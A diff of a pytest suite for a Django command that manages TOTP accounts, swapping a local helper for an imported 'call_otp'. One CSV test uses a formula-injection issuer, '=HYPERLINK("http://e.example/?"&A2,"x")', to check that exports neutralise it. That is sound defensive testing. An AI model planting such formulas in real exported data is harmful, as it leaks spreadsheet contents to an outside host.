@@ -12,19 +12,12 @@ from django.core.management.base import CommandError
 from otp import accounts
 from otp.core import totp
 from otp.models import Account, AuditRecord, Client
-from tests.support.commands import manage
+from tests.support.commands import call_otp, manage
 
 # Distinctive, so any output or record that echoes it (or a recognisable part) is caught.
 SECRET = "N52HALLTMVZHM2LDMUQHGZLLOJUXIIJB"
 OTHER_SECRET = "HXDMVJECJJWSRB3HWIZR4IFUGFTMXBOZ"
 URI = f"otpauth://totp/GitHub:bot@example.com?secret={SECRET}&issuer=GitHub"
-
-
-def run(*args, stdin=""):
-    """(stdout, stderr) of `manage.py otp ARGS` with `stdin` as its standard input."""
-    out, err = io.StringIO(), io.StringIO()
-    call_command("otp", *args, stdin=io.StringIO(stdin), stdout=out, stderr=err)
-    return out.getvalue(), err.getvalue()
 
 
 def stored_state():
@@ -39,7 +32,7 @@ def refusal(*args, stdin="") -> str:
     """The CommandError message of a refused command: one line, no secret, nothing changed."""
     before = stored_state()
     with pytest.raises(CommandError) as refused:
-        run(*args, stdin=stdin)
+        call_otp(*args, stdin=stdin)
     message = str(refused.value)
     assert "\n" not in message
     assert_no_secret(message)
@@ -54,7 +47,7 @@ def assert_no_secret(text: str):
 
 
 def add(name, text, *options):
-    return run("account", "add", name, *options, stdin=text)
+    return call_otp("account", "add", name, *options, stdin=text)
 
 
 # --- account add -----------------------------------------------------------------------------
@@ -109,7 +102,7 @@ def test_added_secret_is_in_no_output_log_line_or_audit_row(
 ):
     with django_capture_on_commit_callbacks(execute=True):
         out, err = add("github-bot", URI)
-        listed, _ = run("account", "list", "--format", "json")
+        listed, _ = call_otp("account", "list", "--format", "json")
     log = log_output.getvalue()
     assert '"account.add"' in log  # the audit line was written, and captured
     rows = [str(row) for row in AuditRecord.objects.values_list()]
@@ -211,7 +204,7 @@ def test_import_adds_every_account_and_prints_one_line_each(tmp_path, frozen_clo
         URI,
         f"deploy otpauth://totp/ACME%20Co:deploy?secret={OTHER_SECRET}&digits=8&period=60",
     )
-    out, err = run("account", "import", path)
+    out, err = call_otp("account", "import", path)
     assert out.splitlines() == [
         "added account github-bot-example.com (issuer GitHub, SHA1, 6 digits, every 30 s)",
         "added account deploy (issuer ACME Co, SHA1, 8 digits, every 60 s)",
@@ -223,7 +216,7 @@ def test_import_adds_every_account_and_prints_one_line_each(tmp_path, frozen_clo
 
 
 def test_import_reads_standard_input_given_as_dash(frozen_clock):
-    out, _ = run("account", "import", "-", stdin=f"gh {URI}\n")
+    out, _ = call_otp("account", "import", "-", stdin=f"gh {URI}\n")
     assert out.startswith("added account gh ")
     assert accounts.get_account("gh").secret == SECRET
 
@@ -265,7 +258,7 @@ def test_import_reports_every_bad_line_by_number_and_stores_nothing(tmp_path, fr
 def test_import_refuses_two_lines_that_make_the_same_name(tmp_path):
     path = write_import_file(tmp_path, URI, URI.replace(SECRET, OTHER_SECRET))
     with pytest.raises(CommandError):
-        run("account", "import", path)
+        call_otp("account", "import", path)
     assert not Account.objects.exists()
 
 
@@ -300,7 +293,7 @@ def test_import_without_an_encryption_key_stores_nothing(tmp_path, settings):
 
 def test_list_shows_every_account_default_first_and_no_secret(frozen_clock):
     add("ci", SECRET, "--issuer", "ACME", "--digits", "8")
-    out, _ = run("account", "list")
+    out, _ = call_otp("account", "list")
     assert out.splitlines() == [
         "NAME     ISSUER  ALGORITHM  DIGITS  PERIOD",
         "default  -       SHA1       6       30",
@@ -310,7 +303,7 @@ def test_list_shows_every_account_default_first_and_no_secret(frozen_clock):
 
 def test_list_as_json_is_one_object_per_line(frozen_clock):
     add("ci", SECRET, "--issuer", "ACME")
-    out, _ = run("account", "list", "--format", "json")
+    out, _ = call_otp("account", "list", "--format", "json")
     assert [json.loads(line) for line in out.splitlines()] == [
         {"name": "default", "issuer": "", "algorithm": "SHA1", "digits": 6, "period": 30},
         {"name": "ci", "issuer": "ACME", "algorithm": "SHA1", "digits": 6, "period": 30},
@@ -321,14 +314,14 @@ def test_list_as_json_is_one_object_per_line(frozen_clock):
 def test_list_as_csv_never_hands_a_spreadsheet_a_formula(frozen_clock):
     # An issuer comes from whatever QR code the site showed.
     add("ci", SECRET, "--issuer", '=HYPERLINK("http://e.example/?"&A2,"x")')
-    out, _ = run("account", "list", "--format", "csv")
+    out, _ = call_otp("account", "list", "--format", "csv")
     row = next(csv.reader(io.StringIO(out.splitlines()[2])))
     assert row[:2] == ["ci", '\'=HYPERLINK("http://e.example/?"&A2,"x")']
 
 
 def test_remove_deletes_the_account_and_records_it(frozen_clock):
     add("ci", SECRET)
-    out, _ = run("account", "remove", "ci")
+    out, _ = call_otp("account", "remove", "ci")
     assert out == "removed account ci\n"
     assert accounts.get_account("ci") is None
     assert list(AuditRecord.objects.values_list("action", "account")) == [
